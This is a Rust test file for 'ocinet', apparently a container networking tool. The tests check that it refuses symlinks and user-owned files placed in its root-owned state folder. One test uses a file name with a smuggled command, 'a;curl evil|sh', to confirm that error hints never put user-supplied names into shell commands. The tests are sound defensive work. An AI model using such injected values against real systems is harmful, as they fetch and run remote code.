//! What a user puts in the place of ocinet's folders and files, while a folder is open to everybody.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, lchown, symlink};
use std::path::Path;

use ocinet_tests::lab::{DUAL, Lab, Sandbox};

use crate::life::used;
use crate::trust::{NOBODY, PUBLISHED, by_a_user, mode, open, set_mode};

fn link_of_a_user(target: &Path, link: &Path) {
    symlink(target, link).unwrap();
    lchown(link, Some(NOBODY), Some(NOBODY)).unwrap();
}

/// A start that is refused for its state folder, and what it says.
#[track_caller]
fn refused(lab: &Lab) -> String {
    let refused = lab.create(&Sandbox::new("web"), &PUBLISHED);
    assert_eq!((refused.code, refused.stderr.lines().count()), (7, 1), "{}", refused.stderr);
    refused.stderr
}

/// A hint is for root's shell: what a user named is no part of a command, and chown(1) and chmod(1) follow links.
#[test]
fn no_hint_about_the_state_folder_has_a_users_name_in_a_command() {
    let lab = Lab::new();
    let leases = open(&lab, "leases");
    let (name, precious) = ("a;curl evil|sh", lab.dir().join("precious"));
    fs::write(&precious, "root's").unwrap();
    link_of_a_user(&precious, &leases.join(name));
    let said = refused(&lab);
    let (cause, hint) = said.split_once("; hint: ").unwrap();
    assert!(cause.ends_with("a;curl evil|sh: it is a symbolic link"), "{said}");
    assert_eq!(hint.trim_end(), "remove the link: ocinet makes none");
    fs::remove_file(leases.join(name)).unwrap();
    fs::create_dir(leases.join(name)).unwrap();
    lchown(leases.join(name), Some(NOBODY), Some(NOBODY)).unwrap();
    let said = refused(&lab);
    let hint = said.split_once("; hint: ").unwrap().1;
    assert_eq!(hint.trim_end(), "look into the folder that it is in, and remove what root did not make");
    fs::remove_dir(leases.join(name)).unwrap();
    lchown(lab.state_dir(), Some(NOBODY), Some(NOBODY)).unwrap();
    let said = refused(&lab);
    assert!(said.contains("it belongs to the user 65534; hint: name a folder of root's"), "{said}");
}

/// Root may have changed the state folder's mode since, and no ocinet has looked into it.
#[test]
fn a_link_in_the_place_of_a_folder_changes_nothing_elsewhere() {
    for of_root in [false, true] {
        for name in ["containers", "leases", "last-error", "leases/default", "macs/networks"] {
            let lab = Lab::new();
            let home = lab.dir().join("home");
            fs::create_dir_all(home.join(".ssh/deep")).unwrap();
            let all = [home.clone(), home.join(".ssh"), home.join(".ssh/deep")];
            all.iter().for_each(|path| set_mode(path, 0o700));
            let link = lab.state_dir().join(name);
            fs::create_dir_all(link.parent().unwrap()).unwrap();
            symlink(&home, &link).unwrap();
            if !of_root {
                lchown(&link, Some(NOBODY), Some(NOBODY)).unwrap();
            }
            // ocinet does not make a link of root's here; it is root's business where it leads.
            if of_root && name.contains('/') {
                assert_eq!(lab.run(&["gc"], "").code, 0, "{name}");
            } else {
                let said = refused(&lab);
                let says = format!("cannot use {}: it is", link.display());
                assert!(said.contains(&says) && said.contains("hint: remove the link"), "{said}");
                assert_eq!(lab.run(&["gc"], "").code, 7, "{name}");
            }
            let modes: Vec<u32> = all.iter().map(|path| mode(path)).collect();
            assert_eq!(modes, [0o700; 3], "{name}");
        }
    }
}

/// ocinet makes no folder in the folder of records, and none below a network's leases.
#[test]
fn a_folder_that_ocinet_did_not_make_keeps_its_mode() {
    let lab = Lab::new();
    let below = ["containers/mine", "leases/default/mine", "macs/networks/default/mine"];
    for name in below {
        let path = open(&lab, name);
        fs::create_dir(path.join("deeper")).unwrap();
        set_mode(&path, 0o700);
    }
    let web = lab.attach("web", &PUBLISHED);
    for name in below {
        assert_eq!(mode(&lab.state_dir().join(name)), 0o700, "{name}");
        assert_eq!(mode(lab.state_dir().join(name).parent().unwrap()), 0o755, "{name}");
    }
    lab.detach(web);
}

/// A mode of today says nothing of who could write before.
#[test]
fn what_a_user_left_in_a_folder_without_a_lock_file_is_found_whatever_its_mode() {
    let lab = Lab::new();
    open(&lab, "leases/default");
    for name in ["stats.json", "sweep", "forwarding.json", "other"] {
        let path = lab.state_dir().join(name);
        by_a_user(&path, "{}");
        let said = refused(&lab);
        let says = format!("cannot use {}: it belongs to the user {NOBODY}; hint: look into", path.display());
        assert!(said.contains(&says), "{said}");
        fs::remove_file(path).unwrap();
    }
    // What is left is an earlier ocinet's.
    let web = lab.attach("web", &PUBLISHED);
    assert_eq!(mode(&lab.state_dir().join("leases/default")), 0o755);
    lab.detach(web);
}

/// A stop has nothing to do with what the next start uses.
#[test]
fn a_start_and_a_gc_look_at_the_folders_and_a_stop_does_not() {
    let lab = Lab::new();
    used(&lab);
    let folder = lab.state_dir().join("last-error");
    fs::create_dir_all(&folder).unwrap();
    let web = lab.attach("web", &[("net.subnet", DUAL)]);
    let set = |open| fs::set_permissions(&folder, fs::Permissions::from_mode(open)).unwrap();
    set(0o777);
    assert_eq!(lab.run(&["list"], "").code, 0);
    lab.detach(web);
    assert_eq!(mode(&folder), 0o777);
    assert_eq!(lab.run(&["gc"], "").code, 0);
    assert_eq!(mode(&folder), 0o755);
    set(0o777);
    lab.detach(lab.attach("web", &[("net.subnet", DUAL)]));
    assert_eq!(mode(&folder), 0o755);
}
